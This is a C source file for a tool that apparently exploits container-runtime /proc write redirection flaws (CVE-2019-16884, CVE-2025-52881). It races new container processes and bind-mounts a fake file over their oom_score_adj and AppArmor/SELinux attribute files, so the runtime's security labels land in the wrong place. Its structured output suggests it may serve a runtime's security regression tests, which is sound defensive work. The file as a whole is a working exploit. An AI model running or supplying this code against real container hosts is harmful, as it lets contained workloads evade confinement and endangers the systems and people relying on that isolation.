/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack_procfs: redirecting the runtime's /proc writes (CVE-2019-16884, CVE-2025-52881)
 * from inside a container that may mount (CAP_SYS_ADMIN in its own user namespace).
 *
 *   attack_procfs race FAKE SECONDS [STOPFILE]
 *
 * Watches /proc for new processes (a runtime `exec` process appears in the container's pid
 * namespace before it applies its process attributes) and bind-mounts the file FAKE over
 * their oom_score_adj and attr/{exec,current} files, so that a runtime writing through
 * /proc/PID/... or /proc/self/... without checking what it opened writes into FAKE
 * instead. Prints ready=1, then mounts=N (binds that succeeded), done=1.
 */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 4 || strcmp(argv[1], "race") != 0) {
		fprintf(stderr, "usage: attack_procfs race FAKE SECONDS [STOPFILE]\n");
		return 2;
	}
	const char *fake = argv[2], *stop = argc > 4 ? argv[4] : NULL;
	static const char *const files[] = {"oom_score_adj", "attr/exec", "attr/current",
					    "attr/apparmor/exec"};
	double end = now() + atoi(argv[3]);
	int seen = getpid();
	long mounts = 0;
	int first_err = 0;
	printf("ready=1\n");
	while (now() < end && !(stop && access(stop, F_OK) == 0)) {
		DIR *d = opendir("/proc");
		if (!d)
			break;
		struct dirent *de;
		int top = seen;
		while ((de = readdir(d))) {
			int pid = atoi(de->d_name);
			if (pid <= seen)
				continue;
			if (pid > top)
				top = pid;
			for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
				char p[128];
				snprintf(p, sizeof(p), "/proc/%d/%s", pid, files[i]);
				if (mount(fake, p, NULL, MS_BIND, NULL) == 0)
					mounts++;
				else if (!first_err && errno != ENOENT)
					first_err = errno;
			}
		}
		closedir(d);
		seen = top;
	}
	printf("mounts=%ld\n", mounts);
	if (first_err)
		printf("first_error=%s\n", strerrorname_np(first_err));
	printf("done=1\n");
	return 0;
}
